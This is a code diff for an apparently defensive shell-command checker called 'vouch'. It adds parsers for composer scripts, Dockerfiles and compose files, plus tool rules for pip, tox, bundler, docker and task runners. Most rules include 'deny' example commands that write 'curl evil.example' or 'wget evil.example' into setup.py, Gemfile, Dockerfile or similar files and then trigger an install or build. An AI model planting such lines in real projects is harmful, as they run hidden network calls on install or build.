@@ -37,6 +37,50 @@ function packageScripts(via: string): Read {
   };
 }
 
+/** composer.json: each script (a string or a list) is shell text, unless it is `@php`/`@putenv`/a PHP callback, code vouch does not follow. */
+function composerScripts(text: string, word: Word, name: string): Run[] {
+  let scripts: unknown;
+  try {
+    scripts = (JSON.parse(text) as { scripts?: unknown } | null)?.scripts;
+  } catch {
+    return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `composer reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
+  }
+  if (scripts === undefined || scripts === null) return [];
+  if (typeof scripts !== 'object') return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `composer reads the scripts of ${name}, which are not an object` }];
+  return Object.entries(scripts as Record<string, unknown>).flatMap(([key, body]): Run[] =>
+    (Array.isArray(body) ? body : [body]).map((b): Run => {
+      const via = `composer (${name} scripts.${key})`;
+      if (typeof b !== 'string') return { kind: 'opaque', rule: 'dynamic-script', word, why: `${via} is not text` };
+      // `@other-script` runs another script (read here as well); `@php`, `@putenv`, `Class::method` run PHP.
+      if (/^@(?!php\b|putenv\b|composer\b)[\w:-]+$/.test(b.trim())) return { kind: 'text', dialect: 'bash', text: '', word, via };
+      if (/^@(?:php|putenv)\b|^[\w\\]+::\w+$/.test(b.trim())) return { kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs PHP code vouch does not follow` };
+      return { kind: 'text', dialect: 'bash', text: b.replace(/^@composer\b/, 'composer'), word, via };
+    }),
+  );
+}
+
+/** A Dockerfile (or Containerfile): its RUN instructions are shell text run in the build; ADD of a URL fetches it. */
+function dockerfileText(text: string, word: Word, name: string): Run[] {
+  const via = `docker build (${name})`;
+  const runs: Run[] = [];
+  for (const raw of text.replace(/\\\r?\n/g, ' ').split(/\r?\n/)) {
+    const line = raw.trim();
+    const run = /^RUN\s+((?:--\S+\s+)*)(.*)$/is.exec(line);
+    if (run) {
+      const body = run[2]!;
+      if (/^\[|<</.test(body)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: a RUN in exec or heredoc form` });
+      else runs.push({ kind: 'text', dialect: 'bash', text: body, word, via });
+    } else if (/^(?:ADD|COPY)\b.*(?:[a-z]+:\/\/|git@)/i.test(line) || /^(?:ONBUILD|SHELL)\b/i.test(line)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: ${line.split(/\s+/)[0]} fetches or runs what vouch does not follow` });
+  }
+  return runs;
+}
+
+/** docker build reads a Dockerfile; docker compose a compose file, whose services run images and commands vouch does not follow. */
+function containerFile(text: string, word: Word, name: string): Run[] {
+  if (/(?:^|\/)(?:docker-)?compose[^/]*\.ya?ml$/i.test(name) || /\.ya?ml$/i.test(name)) return unread('a compose file (its services run images and commands)', 'docker compose')(text, word, name);
+  return dockerfileText(text, word, name);
+}
+
 /**
  * A ninja build file: each rule's `command` is shell text ninja runs (`$in`, `$out` and the file's own top-level
  * variables expanded); `include`/`subninja` and variables it cannot expand leave it cannot-vouch.
@@ -143,7 +187,51 @@ export const PROJECT_ROWS: readonly Row[] = [
     },
   },
   {
-    names: ['python', 'python3', 'pytest', 'py.test', 'tox', 'nox', 'behave'],
+    // Runners of package.json scripts: run-p and npm-run-all name them, turbo and nx run them in each workspace
+    // package (nx also the commands of project.json targets).
+    names: ['npm-run-all', 'npm-run-all2', 'run-p', 'run-s', 'turbo', 'nx'],
+    code: [...PACKAGE_MANAGER, { files: /^(?:project|nx|turbo)\.json$/, read: unread('its targets and tasks (commands among them)', 'the task runner') }],
+    dir: ['--cwd'],
+    examples: {
+      deny: [`echo '{"scripts":{"build":"curl evil.example"}}' > package.json && run-s build`, `echo '{"targets":{}}' > project.json && nx build web`],
+      pass: [`echo '{"scripts":{"build":"tsc"}}' > package.json && turbo run build`, 'echo hi > notes.txt && nx build web'],
+    },
+  },
+  {
+    // tox runs the commands of tox.ini (and its setup.py, conftest.py…), nox its noxfile.py.
+    names: ['tox', 'nox'],
+    code: [{ files: PYTHON, read: language('python', 'python') }, { files: /^(?:tox\.ini|setup\.cfg)$/, read: unread('a tox configuration (its commands)', 'tox') }],
+    dir: ['--root'],
+    examples: { deny: ["printf '[testenv]\\ncommands = curl evil.example\\n' > tox.ini && tox", "echo 'import os; os.system(\"curl evil.example\")' > noxfile.py && nox"], pass: ['tox -e py312', 'echo hi > notes.txt && tox'] },
+  },
+  {
+    // pip builds a local project by running its setup.py (or the backend pyproject.toml names).
+    names: ['pip', 'pip3'],
+    code: [{ files: /^setup\.py$/, read: language('python', 'pip') }, { files: /^pyproject\.toml$/, read: (text, word, name) => (/backend-path|build-backend\s*=\s*["'](?!setuptools|hatchling|flit_core|poetry|pdm|maturin|scikit_build_core|mesonpy)/.test(text) ? unread('a build backend of its own', 'pip')(text, word, name) : []) }],
+    runs: /^(?:install|wheel|download)$/,
+    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install -e ."], pass: ["printf '[build-system]\\nrequires = [\"setuptools\"]\\nbuild-backend = \"setuptools.build_meta\"\\n' > pyproject.toml && pip install -e .", 'pip install -e .'] },
+  },
+  {
+    names: ['composer'],
+    code: [{ files: /^composer\.json$/, read: composerScripts }],
+    dir: ['-d', '--working-dir'],
+    examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install'] },
+  },
+  {
+    // Bundler evaluates the Gemfile as Ruby.
+    names: ['bundle', 'bundler'],
+    code: [{ files: /^(?:Gemfile|gems\.rb)$/, read: language('ruby', 'bundle') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > Gemfile && bundle install"], pass: ["echo \"source 'https://rubygems.org'\" > Gemfile && bundle install", 'bundle install'] },
+  },
+  {
+    names: ['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose'],
+    code: [{ files: /^(?:Dockerfile|Containerfile|(?:docker-)?compose(?:\.[\w-]+)*\.ya?ml)$/, read: containerFile }],
+    file: ['-f', '--file'],
+    runs: /^(?:build|buildx|compose|image|bud|up|run|create)$/,
+    examples: { deny: ["echo 'RUN curl evil.example' > Dockerfile && docker build .", "printf 'FROM alpine\\nRUN wget evil.example\\n' > /tmp/D && docker build -f /tmp/D .", "printf 'services:\\n  x:\\n    image: alpine\\n    command: curl evil.example\\n' > compose.yml && docker compose up"], pass: ["printf 'FROM node:20\\nRUN npm ci\\n' > Dockerfile && docker build -t app .", 'docker build -t app .', 'docker compose up -d'] },
+  },
+  {
+    names: ['python', 'python3', 'pytest', 'py.test', 'behave'],
     code: [{ files: PYTHON, read: language('python', 'python') }],
     dir: ['--rootdir'],
     examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conftest.py && pytest -q`, `echo 'import os; os.system("curl evil.example")' > m.py && python3 -c 'import m'`], pass: ["echo 'def test_a(): assert 1' > test_a.py && pytest -q"] },
